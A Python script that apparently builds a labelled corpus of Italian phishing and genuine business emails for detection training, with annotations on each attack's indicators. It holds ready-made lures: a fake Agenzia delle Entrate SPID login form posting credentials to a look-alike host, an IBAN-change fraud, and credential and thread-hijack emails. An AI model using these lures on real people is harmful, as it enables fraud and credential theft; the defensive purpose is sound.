# -*- coding: utf-8 -*-
"""Italian messages: attacks 17-21, business 17-21 (Verona office)."""
from common import *
import bodies as B
import lib_mime as M

FERRETTI_IP = "93.63.211.14"   # Ferretti's usual office line (Fastweb)
ORIG_ALE = "<5e1c0a9f3b7d4e2a8c6f1d0b9a7e3c52@EXCH02.corp.example.com>"

# ---------------------------------------------------------------- attacks --

zip17 = B.zipf("Documenti_CMR_DDT_sett43.zip", [
    ("Documenti_CMR_DDT_sett43.pdf.js", b"// placeholder - inert stand-in for a malicious JScript dropper\r\n")],
    password="4471", seed=b"a17")
A(num=17, lang="it", slug="ferretti-thread-hijack-zip-password",
  when=(2026, 10, 22, 6, 51, 37), tz="CET",
  frm=("Chiara Colombo", "c.colombo@ferretti-trasporti.it"), to=[s("it_ops")],
  subject="R: Ritiri container settimana 43 - Verona Quadrante Europa",
  hcs=("UTF-8", "Q"),
  in_reply_to=ORIG_ALE,
  infra=("aruba", dict(client_ip="102.89.47.201", lan_ip="10.8.0.6", client="roundcube", rc_ver="1.6.6",
                       msgid_domain="ferretti-trasporti.it")),
  body=mixed(T_("""Buongiorno Alessandro,

come anticipato al telefono, ti giro i documenti aggiornati (CMR e DDT) per i ritiri della settimana 43 con le correzioni sui pesi dei container 5 e 7.

Per motivi di riservatezza l'archivio è protetto da password: 4471

Fammi sapere se è tutto a posto, così organizzo gli autisti per lunedì.

Cordiali saluti
Chiara Colombo
Ufficio Traffico - Ferretti Trasporti S.p.A.

Il 16/10/2026 11:02 Alessandro Conti ha scritto:
> Ciao Chiara,
>
> ti confermo i ritiri per la settimana 43 al terminal Quadrante Europa:
> - lun 19/10: 2 x 40' HC, treno 50213 da Duisburg, disponibili dalle 14:00
> - mer 21/10: 3 x 45' pallet-wide, treno 50217
> - ven 23/10: 2 x 40' HC, treno 50221
>
> Destinazioni come da ordini di trasporto inviati ieri. Mi mandi i nominativi degli autisti entro venerdì?
>
> Grazie,
> Alessandro
""", cs="UTF-8", cte="8bit", flowed=True), zip17),
  what="Thread hijack from the road carrier's genuinely compromised mailbox, with an encrypted ZIP",
  why="Real Ferretti address and Aruba relay, but sent from Roundcube via a Nigerian IP (102.89.x.x) instead of Ferretti's office Outlook; replies to a real week-43 thread days after the fact with an invented phone call; ZipCrypto archive with password in the body hides a .pdf.js script.",
  pair="business 17, business 18")

ADE_ATT = """<!DOCTYPE html>
<html lang="it">
<head>
<meta charset="utf-8">
<title>Agenzia delle Entrate - Area riservata</title>
<style>
body{margin:0;font-family:Titillium Web,Arial,sans-serif;background:#f5f5f0}
.h{background:#004080;color:#fff;padding:16px 30px;font-size:19px}
.c{max-width:480px;margin:36px auto;background:#fff;border:1px solid #d6d6d6;padding:26px 30px}
label{display:block;font-size:13px;margin:12px 0 4px}
input,select{width:100%;padding:8px;border:1px solid #999;box-sizing:border-box}
button{margin-top:18px;background:#0066cc;color:#fff;border:0;padding:10px 24px;font-size:14px}
.n{font-size:11px;color:#666;margin-top:16px}
</style>
</head>
<body>
<div class="h">Agenzia delle Entrate &middot; Fatture e Corrispettivi</div>
<div class="c">
<h2 style="font-size:17px;margin-top:0">Comunicazione prot. 2026/1187342</h2>
<p style="font-size:13px">Per visualizzare la comunicazione e l'elenco delle fatture scartate accedi con le credenziali del tuo Identity Provider SPID.</p>
<form method="post" action="https://servizi-agenziaentrate.info/spid/auth.php">
<label>Identity Provider</label>
<select name="idp"><option>Aruba ID</option><option>Poste ID</option><option>InfoCert ID</option><option>Sielte ID</option><option>TIM id</option></select>
<label>Nome utente / indirizzo e-mail</label><input name="u" type="text">
<label>Password</label><input name="p" type="password">
<label>Numero di cellulare per il codice OTP</label><input name="m" type="text">
<button type="submit">Entra con SPID</button>
</form>
<p class="n">Agenzia delle Entrate - Via Giorgione, 106 - 00147 Roma - C.F. e P.IVA 06363391001</p>
</div>
</body>
</html>
"""
A(num=18, lang="it", slug="agenzia-entrate-sdi-html-spid",
  when=(2026, 11, 10, 8, 12, 5), tz="CET",
  frm=("Agenzia delle Entrate - Fatture e Corrispettivi", "noreply@studiodentisticobianchi.it"), to=[s("it_acc")],
  subject="Comunicazione di irregolarità: fatture elettroniche scartate dal SdI (prot. 2026/1187342)",
  hcs=("UTF-8", "B"),
  infra=("cpanel_exim", dict(server="cp-it14.serverplan-host.it", ip="95.110.201.47", local="studiobi",
                             script="/home/studiobi/public_html/wp-includes/css/dist/block-library/mailer.php",
                             client="phpmailer", msgid_domain="studiodentisticobianchi.it")),
  date_zone="CET",
  body=mixed(alt("""Gentile contribuente,

dai controlli automatizzati effettuati dal Sistema di Interscambio (SdI) risultano n. 14 fatture elettroniche emesse nel periodo settembre-ottobre 2026 scartate per incongruenze tra partita IVA del cessionario e codice destinatario.

Ai sensi dell'art. 1, comma 6, del D.Lgs. 127/2015 le fatture scartate si considerano non emesse. In assenza di regolarizzazione entro 5 giorni lavorativi, sarà applicata la sanzione prevista dall'art. 6 del D.Lgs. 471/1997.

L'elenco delle fatture e il dettaglio degli scarti sono disponibili nella comunicazione allegata (accesso con SPID).

Agenzia delle Entrate
Divisione Servizi - Settore Fatturazione Elettronica
""", B.card_html("Comunicazione di irregolarità - prot. 2026/1187342", [
      "Gentile contribuente,",
      "dai controlli automatizzati effettuati dal Sistema di Interscambio (SdI) risultano <b>n. 14 fatture elettroniche</b> emesse nel periodo settembre-ottobre 2026 scartate per incongruenze tra partita IVA del cessionario e codice destinatario.".replace("<b>", "").replace("</b>", ""),
      "Ai sensi dell'art. 1, comma 6, del D.Lgs. 127/2015 le fatture scartate si considerano non emesse. In assenza di regolarizzazione entro 5 giorni lavorativi, sarà applicata la sanzione prevista dall'art. 6 del D.Lgs. 471/1997.",
      "L'elenco delle fatture e il dettaglio degli scarti sono disponibili nella comunicazione allegata (accesso con SPID)."],
      brand="Agenzia delle Entrate", color="#004080", charset="utf-8", lang="it", font="Titillium Web,Arial,sans-serif",
      footer="Agenzia delle Entrate · Divisione Servizi · Settore Fatturazione Elettronica\nQuesto messaggio è generato automaticamente, si prega di non rispondere."),
      cs="utf-8", cte="base64"),
      att(ADE_ATT.encode("utf-8"), "text/html", "Comunicazione_AdE_prot_2026_1187342.html", charset="utf-8", note="fake SPID login form posting to servizi-agenziaentrate.info, no script")),
  what="Italian Revenue Agency (SdI e-invoicing) lure with an HTML attachment imitating a SPID login",
  why="Sent by a hacked dental-practice WordPress (PHPMailer, local Exim) under the display name of the Agenzia delle Entrate; the HTML file collects SPID user, password and mobile number for an external server; fake sanction deadline; the Agency communicates via the 'Cassetto fiscale'/PEC, not HTML attachments.",
  pair=None)

A(num=19, lang="it", slug="ferretti-cambio-iban-dominio-com",
  when=(2026, 10, 23, 9, 33, 18), tz="CET",
  frm=("Amministrazione Ferretti Trasporti", "amministrazione@ferretti-trasporti.com"), to=[s("it_acc")], cc=[s("it_mgr")],
  subject="Variazione coordinate bancarie - comunicazione urgente",
  hcs=("Windows-1252", "Q"),
  infra=("vps_postfix", dict(host="mail.ferretti-trasporti.com", rdns="ns3187422.ip-51-77-141.eu", ip="51.77.141.93",
                             client="outlook16", lang="it", zone="UTC", msgid_domain="ferretti-trasporti.com")),
  date_zone="CET", quote_names=True,
  body=outlook("""Gentile Cliente,

con la presente Vi comunichiamo che, a seguito della riorganizzazione dei rapporti bancari del nostro Gruppo, a partire dalla data odierna tutti i pagamenti a favore di Ferretti Trasporti S.p.A. dovranno essere effettuati esclusivamente sul seguente conto corrente:

Banca: Banca Sella S.p.A.
Intestatario: Ferretti Trasporti S.p.A.
IBAN: %s
BIC/SWIFT: SELBIT2BXXX

Vi preghiamo di non effettuare più bonifici sulle precedenti coordinate presso Banco BPM: il rapporto è in fase di estinzione e gli eventuali accrediti verrebbero respinti.

In particolare Vi chiediamo di disporre sul nuovo conto il pagamento delle fatture n. 1842/26 (€ 9.870,40) e n. 1866/26 (€ 12.415,00) in scadenza il 31/10/2026.

Vi saremmo grati se poteste confermarci l'avvenuto aggiornamento della Vostra anagrafica fornitori rispondendo a questa e-mail.

Distinti saluti

Ufficio Amministrazione
Ferretti Trasporti S.p.A.
Via dell'Industria 27 – 37066 Sommacampagna (VR)
P.IVA %s
""" % (C.iban_fmt(BANK["ferr_fake"]), TAX["ferretti"]), cs="Windows-1252", lang="IT"),
  what="Supplier bank-detail change: look-alike of the road carrier asks to pay two invoices to a new IBAN",
  why="Domain ferretti-trasporti.com instead of .it, on an OVH server with a forged Outlook X-Mailer; urgent account switch, old account 'being closed', confirmation only by reply; the carrier's genuine mails come from Aruba.",
  pair="business 17, business 18")

A(num=20, lang="it", slug="rfi-pic-riconvalida-nis2",
  when=(2026, 11, 12, 10, 45, 0), tz="CET",
  frm=("RFI - Piattaforma Integrata Circolazione", "noreply@rfi-pic-portale.it"), to=[s("it_ops")],
  subject="PIC: riconvalida obbligatoria dell'utenza entro il 20/11/2026 (NIS2)",
  hcs=("UTF-8", "Q"),
  infra=("esp", dict(esp="brevo", bounce_domain="bnc.rfi-pic-portale.it")),
  body=alt("""Gentile utente,

in attuazione degli obblighi previsti dal D.Lgs. 138/2024 (recepimento della Direttiva NIS2), Rete Ferroviaria Italiana sta aggiornando le modalità di accesso alla Piattaforma Integrata Circolazione (PIC). Tutte le utenze delle Imprese Ferroviarie devono essere riconvalidate entro il 20/11/2026.

Impresa ferroviaria: Example Group Italia S.r.l.
Utenza: a.conti
Richieste di traccia in lavorazione: 9 (orario 2027)

Le utenze non riconvalidate saranno sospese e le relative richieste di traccia non potranno essere gestite fino alla nuova abilitazione.

Riconvalida utenza: https://rfi-pic-portale.it/pic/accesso/riconvalida?ir=EG-IT&u=a.conti

Cordiali saluti
RFI - Direzione Commerciale
Servizi alle Imprese Ferroviarie
""", B.card_html("Riconvalida dell'utenza PIC", [
      "Gentile utente,",
      "in attuazione degli obblighi previsti dal D.Lgs. 138/2024 (recepimento della Direttiva NIS2), Rete Ferroviaria Italiana sta aggiornando le modalità di accesso alla Piattaforma Integrata Circolazione (PIC). Tutte le utenze delle Imprese Ferroviarie devono essere riconvalidate entro il <b>20/11/2026</b>.".replace("<b>", "").replace("</b>", ""),
      '<table cellpadding="4" style="font-size:14px;color:#333;margin-bottom:12px"><tr><td>Impresa ferroviaria:</td><td><b>Example Group Italia S.r.l.</b></td></tr>'
      '<tr><td>Utenza:</td><td><b>a.conti</b></td></tr><tr><td>Richieste di traccia in lavorazione:</td><td><b>9 (orario 2027)</b></td></tr></table>',
      "Le utenze non riconvalidate saranno sospese e le relative richieste di traccia non potranno essere gestite fino alla nuova abilitazione."],
      button=("Riconvalida utenza", "https://rfi-pic-portale.it/pic/accesso/riconvalida?ir=EG-IT&u=a.conti"),
      brand="RFI · Rete Ferroviaria Italiana", color="#c8102e", charset="utf-8", lang="it", font="Arial,sans-serif",
      footer="RFI - Direzione Commerciale · Servizi alle Imprese Ferroviarie\nMessaggio generato automaticamente, non rispondere."),
      cs="utf-8"),
  what="Credential phishing for the Italian infrastructure manager's capacity platform (PIC), NIS2 pretext",
  why="Look-alike domain rfi-pic-portale.it sent through Brevo; 'revalidation' link on that domain; suspension threat for pending 2027 path requests; tailored to a railway undertaking's operations staff.",
  pair=None)

A(num=21, lang="it", slug="falso-avvocato-diffida-link",
  when=(2026, 11, 18, 18, 6, 42), tz="CET",
  frm=("Avv. Federico Marchetti", "avv.federicomarchetti@libero.it"), to=[s("it_mgr")],
  subject="Diffida e messa in mora - Logistica Padana S.r.l. / Example Group Italia S.r.l. (pratica 2026/3381)",
  hcs=("UTF-8", "B"),
  infra=("libero", dict(client_ip="151.38.112.40")),
  body=T_("""Spett.le Example Group Italia S.r.l.
alla c.a. dell'Amministratore / Ufficio Amministrazione

Oggetto: diffida e messa in mora - pratica n. 2026/3381

Scrivo in nome e per conto della Logistica Padana S.r.l., con sede in Mantova, che mi ha conferito mandato per il recupero del credito vantato nei Vostri confronti per prestazioni di movimentazione e deposito container rese presso il terminal di Verona nel periodo maggio-luglio 2026, pari a complessivi € 23.480,00 oltre interessi di mora ex D.Lgs. 231/2002.

Con la presente Vi invito e diffido formalmente a provvedere al pagamento entro e non oltre 5 (cinque) giorni dal ricevimento, avvertendo che, in difetto, sarò costretto ad agire in sede giudiziale con aggravio di spese a Vostro carico, senza ulteriore avviso.

Copia dell'atto, delle fatture insolute e degli estratti contabili è consultabile al seguente link riservato (file protetto, codice di accesso LP3381):
https://docs-legalshare.com/d/8f2K1q/Diffida_LogisticaPadana_3381

Distinti saluti

Avv. Federico Marchetti
Foro di Mantova
""", cs="UTF-8"),
  what="Fake lawyer's formal demand (diffida) with a link to a 'protected' file",
  why="A lawyer writing from a free Libero mailbox instead of PEC; creditor unknown to the company (no such supplier or invoices); 5-day threat; the 'atto' is only available through an external file-sharing link with an access code – a typical malware/credential lure.",
  pair="business 20 (Libero sender), business 21 (genuine complaint)")

# --------------------------------------------------------------- business --

fatt_pdf, _ = B.pdf("Fattura_1907-26_Ferretti_Trasporti.pdf", [
    ("h1", "Ferretti Trasporti S.p.A."),
    ("s", "Via dell'Industria 27 - 37066 Sommacampagna (VR) - P.IVA %s - REA VR-318442" % TAX["ferretti"]),
    ("h2", "COPIA DI CORTESIA - Fattura n. 1907/26 del 30/10/2026"),
    ("n", "Cessionario: Example Group Italia S.r.l., Via Sommacampagna 61, 37137 Verona - P.IVA %s - Codice destinatario: M5UXCR1" % TAX["own_it"]),
    ("b", "Descrizione                                                    Q.tà     Prezzo      Importo"),
    ("m", "Trasporto container 40' HC Quadrante Europa - destino, sett. 43    7    385,00 €   2.695,00 €"),
    ("m", "Sosta extra autista (ore)                                          2     55,00 €     110,00 €"),
    ("n", "Imponibile 2.805,00 €   IVA 22% 617,10 €   Totale documento 3.422,10 €"),
    ("n", "Pagamento: bonifico 60 gg d.f.f.m. - Banco BPM - IBAN %s" % C.iban_fmt(BANK["ferr"])),
    ("s", "Documento privo di valenza fiscale ai sensi dell'art. 21 D.P.R. 633/72. L'originale è disponibile nell'area riservata del portale Fatture e Corrispettivi."),
], meta=dict(title="Fattura 1907/26", producer="TeamSystem Enterprise", creator="TeamSystem", created="20261030170400+01'00'"))
G(num=17, lang="it", slug="ferretti-fattura-copia-cortesia",
  when=(2026, 10, 30, 17, 10, 26), tz="CET",
  frm=("Amministrazione - Ferretti Trasporti S.p.A.", "amministrazione@ferretti-trasporti.it"), to=[s("it_acc")],
  subject="Invio copia di cortesia fattura n. 1907/26 del 30/10/2026",
  hcs=("iso-8859-15", "Q"),
  infra=("aruba", dict(client_ip=FERRETTI_IP, client="outlook16", lang="it", msgid_domain="ferretti-trasporti.it")),
  quote_names=True,
  body=mixed(outlook("""Gentile Cliente,

in allegato trasmettiamo copia di cortesia della fattura n. 1907/26 del 30/10/2026, già inviata tramite Sistema di Interscambio (SdI) al Vostro codice destinatario.

Si ricorda che la copia allegata non ha valore fiscale ai sensi dell'art. 21 del D.P.R. 633/72; l'originale è disponibile nella Vostra area riservata del portale Fatture e Corrispettivi.

Pagamento: bonifico bancario a 60 gg data fattura fine mese sulle consuete coordinate (Banco BPM, IBAN %s).

Cordiali saluti

Ufficio Amministrazione
Ferretti Trasporti S.p.A.
Via dell'Industria 27 - 37066 Sommacampagna (VR)
Tel. 045 851 2200 - amministrazione@ferretti-trasporti.it
""" % C.iban_fmt(BANK["ferr"]), cs="iso-8859-15", lang="IT"), fatt_pdf),
  what="Road carrier sends the courtesy copy of an e-invoice already transmitted via SdI",
  why="Genuine ferretti-trasporti.it via Aruba from Ferretti's usual Italian office IP with Outlook; the invoice exists in SdI; unchanged Banco BPM IBAN; no link or action required.",
  pair="attack 17, attack 19")

G(num=18, lang="it", slug="ferretti-sollecito-sospensione-servizi",
  when=(2026, 11, 16, 9, 2, 51), tz="CET",
  frm=("Chiara Colombo", "c.colombo@ferretti-trasporti.it"), to=[s("it_mgr"), s("it_acc")],
  subject="Sollecito urgente fatture scadute - sospensione ritiri dal 25/11",
  hcs=("Windows-1252", "Q"),
  infra=("aruba", dict(client_ip=FERRETTI_IP, client="outlook16", lang="it", msgid_domain="ferretti-trasporti.it")),
  quote_names=True,
  body=outlook("""Buongiorno Giulia, buongiorno Marco,

mi spiace tornare sull'argomento, ma dal nostro estratto conto risultano ancora aperte le fatture n. 1638/26 del 31/08 (€ 8.214,60) e n. 1702/26 del 15/09 (€ 5.930,20), scadute da oltre 30 giorni nonostante i solleciti dell'amministrazione.

Capite che per una realtà come la nostra, con gli autisti da pagare a fine mese, è un problema serio. Se non riceviamo il pagamento o almeno una data certa entro venerdì 20/11, la direzione mi ha chiesto di sospendere i ritiri e le consegne da e per il Quadrante Europa a partire da mercoledì 25/11.

Le coordinate bancarie sono sempre quelle indicate in fattura (Banco BPM). Se ci sono contestazioni su qualche viaggio chiamatemi pure, così le sistemiamo subito.

Grazie e buona giornata
Chiara Colombo
Ufficio Traffico
Ferretti Trasporti S.p.A. – Via dell'Industria 27 – 37066 Sommacampagna (VR)
Tel. 045 851 2247 – Cell. 347 118 2290
""", cs="Windows-1252", lang="IT", html_cte="base64"),
  what="Genuine but sharp payment reminder from the road carrier threatening to suspend services",
  why="Real address, Aruba relay, usual Italian office IP and Outlook; refers to existing invoices, explicitly keeps the usual bank details, offers a phone call; urgency is commercial.",
  pair="attack 19")

prev_pdf, _ = B.pdf("Preventivo_214-26_OMB_revisione_Sgnss.pdf", [
    ("h1", "Officine Meccaniche Bergamasche S.r.l."),
    ("s", "Via Provinciale 112 - 24044 Dalmine (BG) - P.IVA %s - Officina di manutenzione carri certificata (Reg. UE 2019/779)" % TAX["omb"]),
    ("h2", "Preventivo n. 214/26 del 09/11/2026"),
    ("n", "Cliente: Example Group Italia S.r.l. - alla c.a. Sig. A. Conti - Vs. richiesta del 02/11/2026"),
    ("b", "Pos.  Descrizione                                               Q.tà    Prezzo unit.    Totale"),
    ("m", "1     Revisione carro Sgnss livello 4 (piano ECM)                  6     4.850,00 EUR   29.100,00 EUR"),
    ("m", "2     Sostituzione sala montata (se necessaria dopo misurazione)   4     6.480,00 EUR   25.920,00 EUR"),
    ("m", "3     Prova freno e certificazione                                 6       320,00 EUR    1.920,00 EUR"),
    ("n", "Totale imponibile 56.940,00 EUR + IVA. Consegna: 3 settimane dall'arrivo dei carri. Validità offerta: 30 giorni."),
    ("n", "Pagamento: bonifico 60 gg d.f. - coordinate in fattura."),
], meta=dict(title="Preventivo 214/26", author="R. Galli", producer="LibreOffice 7.6", creator="Writer", created="20261109111200+01'00'"))
G(num=19, lang="it", slug="officina-preventivo-revisione-carri",
  when=(2026, 11, 9, 11, 20, 3), tz="CET",
  frm=("Roberto Galli", "r.galli@omb-bergamo.it"), to=[s("it_ops")], cc=[s("fleet")],
  subject="Preventivo 214/26 - revisione 6 carri Sgnss",
  hcs=("ISO-8859-1", "Q"),
  infra=("own_postfix", dict(host="mail.omb-bergamo.it", ip="2.228.104.77", client="thunderbird", client_ip="192.168.5.31", lang="it-IT")),
  body=mixed(tb("""Buongiorno Sig. Conti,

facendo seguito alla Vostra richiesta del 02/11, Vi inviamo in allegato il nostro preventivo n. 214/26 per la revisione di 6 carri Sgnss (manutenzione di livello 4 secondo il piano ECM), comprensivo di sostituzione delle sale montate dove necessario dopo la misurazione.

Tempi di consegna: 3 settimane dall'arrivo dei carri in officina; possiamo riceverli a partire dal 23/11. Per le sale montate, se la Sig.ra Krämer preferisce fornirle direttamente dal Vostro fornitore tedesco, le togliamo dal preventivo.

Restiamo a disposizione per un sopralluogo.

Cordiali saluti

Roberto Galli
Responsabile Tecnico
Officine Meccaniche Bergamasche S.r.l.
Via Provinciale 112 - 24044 Dalmine (BG)
Tel. 035 561 884
""", cs="ISO-8859-1", cte="8bit"), prev_pdf),
  what="Wagon workshop sends a repair quotation (PDF)",
  why="Workshop's own mail server, Thunderbird from its LAN, answers a real request, no payment or login request, technical content consistent with the fleet.",
  pair=None)

tgh = C.iso6346("TGHU961244")
cmr_pdf, _ = B.pdf("CMR_firmati_14-15_novembre.pdf", [
    ("h1", "Autotrasporti Rossi - riepilogo CMR firmati"),
    ("n", "Ritiri Quadrante Europa per Example Group Italia S.r.l. - sabato 14 e domenica 15 novembre 2026"),
    ("m", "CMR 2026/0811  14/11  %s  Verona QE -> Castelnuovo del Garda   firmato" % tgh),
    ("m", "CMR 2026/0812  14/11  MSKU7712043  Verona QE -> Villafranca              firmato"),
    ("m", "CMR 2026/0813  14/11  TCNU4405188  Verona QE -> Bussolengo               firmato"),
    ("m", "CMR 2026/0814  15/11  CAIU8829310  Verona QE -> Castelnuovo del Garda   firmato"),
    ("m", "CMR 2026/0815  15/11  MRKU2290457  Verona QE -> Villafranca              firmato"),
    ("m", "CMR 2026/0816  15/11  TGBU5520376  Verona QE -> Sona                     firmato"),
    ("n", "Nota: %s sigillo n. 0448127 diverso da quello in bolla (0448172), annotato sul CMR." % tgh),
], meta=dict(title="CMR 14-15 novembre", producer="Microsoft: Print To PDF", creator="", created="20261116073500+01'00'"))
G(num=20, lang="it", slug="padroncino-libero-cmr-firmati",
  when=(2026, 11, 16, 7, 41, 19), tz="CET",
  frm=("Luca Rossi", "autotrasportirossi@libero.it"), to=[s("it_ops")],
  subject="CMR firmati ritiri 14-15 novembre",
  hcs=("UTF-8", "B"),
  infra=("libero", dict(client_ip="5.90.143.11")),
  body=mixed(T_("""Ciao Alessandro,

ti mando i CMR firmati dei ritiri di sabato e domenica (14 e 15/11), 6 viaggi in tutto. Il container %s aveva il sigillo diverso da quello in bolla, l'ho segnato sul CMR e ho fatto la foto, se serve te la mando.

Mi confermi anche che la fattura 57/2026 di ottobre è in pagamento? Grazie mille

Luca

Autotrasporti Rossi di Luca Rossi
Via Mantova 14 - 37060 Castel d'Azzano (VR)
Cell. 338 902 4417
""" % tgh, cs="UTF-8"), cmr_pdf),
  what="Small haulier on Libero sends signed CMRs and asks about an invoice",
  why="Known subcontractor who always writes from Libero; concrete operational detail (container with valid ISO 6346 check digit, seal discrepancy); asks about a payment but gives no new bank details; text-only PDF.",
  pair="attack 21 (Libero sender)")

G(num=21, lang="it", slug="cliente-reclamo-ritardo-treno",
  when=(2026, 10, 21, 15, 33, 8), tz="CET",
  frm=("Paolo Bertoldi", "p.bertoldi@cartierealtogarda.it"), to=[s("it_ops")], cc=[s("it_mgr")],
  subject="Reclamo treno 50213 del 19/10 - ritardo di 19 ore e costi di sosta",
  hcs=("Windows-1252", "Q"),
  infra=("exo", dict(srv="VI1PR09MB4521", region="eurprd09", obe="EUR03-VI1-obe", mailhost="mail-vi1eur03on2127",
                     ip="40.107.103.127", lang="it-IT")),
  body=outlook("""Buongiorno,

con la presente segnaliamo formalmente che il treno 50213 Duisburg–Verona, previsto in arrivo lunedì 19/10 alle ore 11:30, è stato messo a disposizione al terminal solo martedì 20/10 alle 06:40, con un ritardo di oltre 19 ore.

Nessuno ci ha avvisato: i nostri tre camion sono rimasti in attesa al Quadrante Europa per l'intero pomeriggio e la linea 2 della cartiera è rimasta ferma per circa sei ore per mancanza di cellulosa.

Vi chiediamo:
– una relazione sulle cause del ritardo entro il 30/10;
– il riconoscimento dei costi di sosta dei mezzi (3 x € 240,00);
– un preavviso via e-mail in caso di ritardi superiori alle 2 ore.

In mancanza di riscontro valuteremo l'applicazione delle penali previste all'art. 11 del contratto quadro.

Distinti saluti

Paolo Bertoldi
Responsabile Logistica
Cartiere Alto Garda S.p.A.
Via Lungo Varone 9 – 38066 Riva del Garda (TN)
Tel. 0464 570 211
""", cs="Windows-1252", lang="IT"),
  what="Customer complaint about a 19-hour train delay and demurrage costs",
  why="Customer's own Microsoft 365 tenant, factual operational complaint, contractual penalty mentioned but no link, attachment, bank data or credential request.",
  pair="attack 21")
